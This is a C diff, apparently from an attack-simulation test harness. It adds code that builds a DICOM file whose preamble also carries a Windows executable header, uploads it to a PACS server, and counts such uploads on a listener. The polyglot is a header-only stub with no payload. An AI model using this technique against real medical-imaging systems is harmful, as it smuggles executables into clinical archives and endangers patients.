@@ -83,3 +83,75 @@ int insider_order(void *arg)
 	usleep(200000);
 	return hang_up(l, 0);
 }
+
+/* DICOM PS3.10 §7.1: 128 bytes that are anybody's, here those of a program, and "DICM". */
+static size_t polyglot(uint8_t *ret_image, size_t size)
+{
+	static const uint8_t element[] = {2, 0, 0, 0, 'U', 'L', 4, 0, 0, 0, 0, 0};
+	struct writer w = writer_new(ret_image, size);
+
+	memset(ret_image, 0, size);
+	write_bytes(&w, "MZ\x90\0\3\0\0\0", 8);
+	w.len = 60;
+	write_bytes(&w, "\x80\0\0\0", 4); /* where the program's own head is */
+	w.len = 128;
+	write_bytes(&w, "DICM", 4);
+	write_bytes(&w, element, sizeof(element));
+	return size;
+}
+
+int insider_polyglot(void *arg)
+{
+	static const char head[] =
+		"POST /instances HTTP/1.1\r\nHost: pacs-1\r\n"
+		"Content-Type: application/dicom\r\nContent-Length: 4096\r\n\r\n";
+	const struct attacker *a = arg;
+	struct mllp_link *l = mllp_reach(a->victim.ip, INSIDER_STORE);
+	uint8_t image[4096];
+	char answer[16];
+
+	if (!l)
+		return 1;
+	polyglot(image, sizeof(image));
+	(void)!send(l->sock, head, sizeof(head) - 1, MSG_NOSIGNAL);
+	(void)!send(l->sock, image, sizeof(image), MSG_NOSIGNAL);
+	return hang_up(l, recv(l->sock, answer, sizeof(answer), 0) <= 0);
+}
+
+/* Counts an upload that is there to the last byte and begins as a program does. */
+static void take_upload(struct board *b, int sock)
+{
+	static uint8_t all[8192];
+	size_t len = 0;
+	ssize_t n;
+
+	while (len < sizeof(all) && (n = recv(sock, all + len, sizeof(all) - len, 0)) > 0) {
+		const uint8_t *body;
+
+		len += (size_t)n;
+		body = memmem(all, len, "\r\n\r\n", 4);
+		if (!body || len - (size_t)(body + 4 - all) < 4096)
+			continue;
+		b->programs += !memcmp(body + 4, "MZ", 2) && !memcmp(body + 132, "DICM", 4);
+		(void)!send(sock, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
+			    sizeof("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n") - 1,
+			    MSG_NOSIGNAL);
+		return;
+	}
+}
+
+int insider_archive(void *arg)
+{
+	const struct attacker *a = arg;
+	struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(INSIDER_STORE)};
+	int sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1, peer;
+
+	setsockopt(sock, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
+	if (bind(sock, (struct sockaddr *)&here, sizeof(here)) || listen(sock, 1))
+		return 1;
+	while ((peer = accept(sock, NULL, NULL)) >= 0) {
+		take_upload(a->board, peer);
+		close(peer);
+	}
+	return 1;
+}
